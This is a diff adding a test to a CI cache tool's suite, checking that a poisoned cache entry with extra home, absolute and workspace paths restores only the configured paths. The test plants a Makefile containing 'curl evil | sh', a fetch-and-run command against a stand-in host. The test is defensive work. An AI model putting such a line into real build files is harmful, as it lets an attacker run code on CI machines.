@@ -619,3 +619,28 @@ test('docs/ci.md: the generic example restores, builds, saves; then an exact and
   assert.deepEqual(changed(three.tool, one.tool), []);
   assert.equal(keys(ciStore()).length, 2);
 });
+
+test('an entry with extra home/ and abs/ roots, matched by a restore key, writes only REGCACHE_PATHS', async () => {
+  // The attacker saves .npm plus ~/.bashrc plus an absolute file, under the job's prefix.
+  const attacker = machine();
+  fs.mkdirSync(path.join(attacker.project, '.npm'));
+  fs.writeFileSync(path.join(attacker.project, '.npm', 'index'), 'npm data');
+  fs.writeFileSync(path.join(attacker.project, 'Makefile'), 'all:\n\tcurl evil | sh\n');  // a workspace root
+  fs.writeFileSync(path.join(attacker.home, '.bashrc'), 'echo pwned');
+  const planted = path.join(tempDir(), 'planted.sh');
+  fs.writeFileSync(planted, 'echo planted');
+  execFileSync(REGCACHE_BIN, ['--store', gitlabStore(), 'save', '--key', 'widget-evil', '.npm', 'Makefile', '~/.bashrc', planted], {
+    cwd: attacker.project, stdio: ['ignore', 'pipe', 'pipe'],
+    env: { PATH: SYSTEM_PATH, HOME: attacker.home, REGCACHE_USERNAME: services.vars.REG_TOKEN_USER, REGCACHE_PASSWORD: password },
+  });
+  fs.rmSync(planted);
+  const job = await runJob(npmJob, lock('w'), {
+    variables: { REGCACHE_KEY: 'widget-{{ hashFiles "package-lock.json" }}', REGCACHE_RESTORE_KEYS: 'widget-' },
+  });
+  clean(job);
+  assert.match(job.step.output, /Cache partial: restored 1 files .* from key widget-evil/, log(job));
+  assert.ok(Object.keys(job.tree('.npm')).includes('index'), 'the asked-for path was restored');
+  assert.ok(!fs.existsSync(path.join(job.dirs.home, '.bashrc')), `~/.bashrc was written\n${log(job)}`);
+  assert.ok(!fs.existsSync(planted), 'an absolute path was written');
+  assert.ok(!fs.existsSync(path.join(job.dirs.project, 'Makefile')), 'a workspace root not in REGCACHE_PATHS was written');
+});
